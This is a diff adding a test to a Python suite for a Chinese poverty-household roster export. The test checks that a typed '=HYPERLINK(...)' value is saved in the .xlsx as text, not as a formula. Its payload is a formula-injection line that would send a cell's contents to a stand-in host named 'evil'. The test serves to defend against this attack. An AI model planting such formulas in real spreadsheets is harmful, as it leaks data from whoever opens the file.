@@ -128,3 +128,21 @@ def test_the_approval_sheet_leaves_the_county_box_blank_until_it_decides(engine,
         text = page.extract_text()
     assert "建档立卡贫困户清退审批表" in text and "贫办核定意见" in text
     assert mask_id(HEAD_ID) in text and HEAD_ID not in text
+
+
+def test_roster_xlsx_writes_typed_text_as_text_never_a_formula(engine, world, tmp_path):
+    """A 认定依据 or a signer typed "=HYPERLINK(…)" stays text in the .xlsx."""
+    import zipfile
+
+    cases = world["cases"]
+    payload = '=HYPERLINK("http://evil/?"&H4,"点击")'
+    addition = cases.open_addition(CLERK, world["edge"], "一般贫困户", payload)
+    _approve(cases, addition, paper_signer="-2+3")
+    path = tmp_path / "新增.xlsx"
+    table = roster_table(Database(engine), "additions", DAY, DAY)
+    assert [(r[8], r[10]) for r in table.rows] == [(payload, "-2+3")]
+    write_roster_file(table, path)
+    with zipfile.ZipFile(path) as z:
+        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
+    values = [c for row in load_workbook(path).active.values for c in row]
+    assert payload in values and "-2+3" in values
